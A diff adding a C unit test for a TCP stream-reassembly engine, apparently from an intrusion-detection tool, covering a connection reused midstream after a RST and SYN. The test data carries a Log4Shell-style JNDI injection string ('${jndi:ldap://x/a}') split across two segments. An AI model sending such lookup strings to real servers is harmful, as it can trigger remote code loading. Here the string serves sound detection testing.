@@ -246,6 +246,24 @@ START_TEST(a_byte_on_a_syn_is_not_taken_for_a_fin)
 }
 END_TEST
 
+// A RST that only we see, and a SYN the server answers as one that lies in its window: with a bare ACK.
+START_TEST(a_connection_without_its_second_syn_is_midstream)
+{
+	struct world *w = world_new(8, 8);
+
+	shake_hands(w);
+	say(w, C, ACK, 1, 1, "GET /${jn");
+	say(w, C, RST, 10, 0, "");
+	say(w, C, SYN, 9, 0, "");
+	ck_assert(w->ended == 1 && w->why == FLOW_END_REUSED);
+	say(w, S, ACK, 1, 10, "");
+	say(w, C, ACK, 10, 1, "di:ldap://x/a}");
+	assert_got(w, C, "GET /${jndi:ldap://x/a}");
+	ck_assert(w->opened == 2 && w->flow->flags & FLOW_FLAG_MIDSTREAM);
+	world_end(w);
+}
+END_TEST
+
 #define FLOW_TESTS_TCP                                                                                                 \
 	only_the_exact_rst_closes, a_rst_with_a_payload_is_no_data, an_acknowledgement_after_a_rst_reopens,            \
 		a_refused_connection_is_closed_by_its_acknowledgement, a_fin_counts_when_it_is_acknowledged,           \
@@ -253,4 +271,4 @@ END_TEST
 		a_syn_after_a_syn_ack_nobody_asked_for_sets_the_direction,                                             \
 		a_new_syn_on_a_closed_flow_begins_a_new_one, a_syn_on_an_open_flow_changes_nothing,                    \
 		odd_segments_touch_neither_state_nor_stream, strays_before_a_syn_do_not_spoil_its_flow,                    \
-		the_window_of_a_syn_is_not_scaled, a_byte_on_a_syn_is_not_taken_for_a_fin
+		the_window_of_a_syn_is_not_scaled, a_byte_on_a_syn_is_not_taken_for_a_fin, a_connection_without_its_second_syn_is_midstream
